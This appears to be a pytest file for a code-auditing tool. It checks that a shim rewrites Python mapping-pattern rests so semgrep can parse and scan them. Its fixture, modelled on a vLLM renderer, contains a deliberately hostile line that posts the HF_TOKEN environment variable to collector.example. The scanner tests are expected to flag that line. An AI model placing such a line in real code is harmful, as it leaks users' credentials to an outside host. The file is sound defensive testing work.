"""The Python shim for semgrep: mapping-pattern rests that semgrep 1.185 cannot parse."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

from test_scan_rules import needs_semgrep

from auditor import gitio
from auditor.scan.interface import Origin, ScanTarget
from auditor.scan.pyshim import semgrep_python
from auditor.scan.semgrep import SemgrepScanner
from auditor.scan.tools import sealed_env

# the shape of vLLM 0.33's vllm/renderers/cohere.py, with a hostile line in the case body
ROUTER = '''\
import os

import requests


def route(doc, **kwargs):
    match doc:
        case str():
            return {"text": doc, **kwargs}
        case {"data": dict() as data, **rest}:
            requests.post("https://collector.example/v1", json={"k": os.environ["HF_TOKEN"]})
            return {**data, **rest}
        case _:
            return None
'''


def target(rel: str, text: str) -> ScanTarget:
    return ScanTarget(key=f"b:{rel}", path=rel, origin=Origin.BUNDLE,
                      sha256=hashlib.sha256(text.encode()).hexdigest(), family="python", text=text)


def test_only_the_mapping_rest_is_rewritten_in_place() -> None:
    out = semgrep_python(ROUTER)
    changed = [(a, b) for a, b in zip(ROUTER.split("\n"), out.split("\n"), strict=True) if a != b]
    assert changed == [('        case {"data": dict() as data, **rest}:',
                        '        case {"data": dict() as data, 0:rest}:')]


def test_nested_and_alternative_mappings_each_lose_their_own_rest() -> None:
    text = ('def f(d):\n    match d:\n'
            '        case {"a": {"b": [x], **inner}, **outer} | {"é": {**x}, **other}:\n'
            '            return g(**inner)\n')
    out = semgrep_python(text)
    assert out.split("\n")[2] == ('        case {"a": {"b": [x], 0:inner}, 0:outer} | '
                                  '{"é": {0:x}, 0:other}:')
    assert out.split("\n")[3] == text.split("\n")[3]  # a call's ** is left alone
    assert [len(x) for x in out.split("\n")] == [len(x) for x in text.split("\n")]


def test_text_without_such_patterns_or_that_does_not_parse_is_unchanged() -> None:
    for text in ("x = {**a, **b}\n", "def f(**kw):\n    return g(**kw)\n",
                 "# match {**x} in a comment\ncase = {**y}\n",
                 "match d:\n    case {'a': 1, **rest:\n", "case = 1\nx = a ** 2\n",
                 "match d:\r    case {'a': 1, **rest}:\r        pass\r"):
        assert semgrep_python(text) == text


def semgrep_errors(exe: str, path: Path) -> list[str]:
    rule = path.parent / "any-call.yaml"
    rule.write_text("rules:\n- id: any-call\n  languages: [python]\n  severity: INFO\n"
                    "  message: m\n  pattern: $F(...)\n", encoding="utf-8")
    res = gitio.run([exe, "scan", "--json", "--metrics=off", "--disable-version-check",
                     "--config", str(rule), str(path)], cwd=path.parent,
                    env=sealed_env(path.parent / "home"), timeout=300, check=False)
    return [e.get("message", "") for e in json.loads(res.stdout)["errors"]]


@needs_semgrep
def test_semgrep_reads_a_file_with_a_mapping_rest_and_finds_what_is_in_it(tmp_path: Path) -> None:
    raw = tmp_path / "raw" / "router.py"
    raw.parent.mkdir()
    raw.write_text(ROUTER, encoding="utf-8")
    scanner = SemgrepScanner(jobs=1)
    # why the shim exists: semgrep alone gives up on the whole file
    errors = semgrep_errors(scanner.exe, raw)
    assert any("Common.Impossible" in m or "syntax" in m.lower() for m in errors), \
        "semgrep now parses mapping-pattern rests: auditor.scan.pyshim can go"

    run = scanner.scan([target("vllm/renderers/router.py", ROUTER)],
                                      tmp_path / "work")
    assert run.errors == {}
    assert scanner.coverage(target("r.py", ROUTER)) == "semgrep:python(shim)"
    assert scanner.coverage(target("r.py", "x = {**a}\n")) == "semgrep:python"
    found = run.findings["b:vllm/renderers/router.py"]
    on_post = [f for f in found if f.line == 11]
    assert on_post, [(f.rule, f.line) for f in found]
    assert any(f.category in {"network", "secret-access"} for f in on_post)
